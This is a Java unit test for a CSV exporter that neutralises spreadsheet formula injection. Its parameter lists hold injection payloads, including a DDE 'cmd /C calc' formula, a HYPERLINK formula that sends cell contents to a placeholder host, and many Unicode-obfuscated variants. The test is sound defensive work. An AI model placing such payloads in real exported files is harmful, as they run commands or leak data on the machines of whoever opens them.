package dev.agon.learn.io;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** No cell is evaluated by a spreadsheet; numbers and other text are unchanged. */
class CsvCellsTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u00A0=1+1",
        "\"=1+1",
        "\uFF1D1+1",
        "\uFE661+1",
        "\uFE6BSUM(1)",
        "\u207A1+1",
        "\u22121+1",
        "\uFEFF=1+1",
        "\u200B=1+1",
        "\u202E=1+1",
        "\u2028=1+1",
        "\u3000=1+1",
        "\u0085=1+1",
        "\0=1+1",
        "\u0001=1+1",
        "\u000B\u000C=1+1",
        "a;\u200B=1+1",
        "a;=1+1",
        "a\t=1+1",
        "a\r\n=1+1",
        "=HYPERLINK(\"http://h?x=\"&A1)",
        "-3.5x",
        "+a",
        "--1",
        "@a"
      })
  void aFormulaBecomesText(String word) {
    String cell = CsvCells.neutralised().cell(word);
    String text = cell.startsWith("\"") ? cell.substring(1) : cell;
    assertThat(text).matches("(?s)(a[;\\t]|a\\r|)'.*");
    assertThat(CsvCells.verbatim().cell(word)).doesNotStartWith("'").doesNotStartWith("\"'");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "-3.5", "+3", "-1e-5", "-.5", "3", "-12%", "-", "+", "", "a-b", "a=b", "b@c", "'x"
      })
  void numbersAndWordsStay(String word) {
    assertThat(CsvCells.neutralised().cell(word)).isEqualTo(word);
  }

  @Test
  void separatorsAreQuoted() {
    assertThat(CsvCells.neutralised().cell("a,\"b\"")).isEqualTo("\"a,\"\"b\"\"\"");
    assertThat(CsvCells.neutralised().cell("3;-4")).isEqualTo("\"3;-4\"");
    assertThat(CsvCells.neutralised().cell("-3,5")).isEqualTo("\"-3,5\"");
  }
}
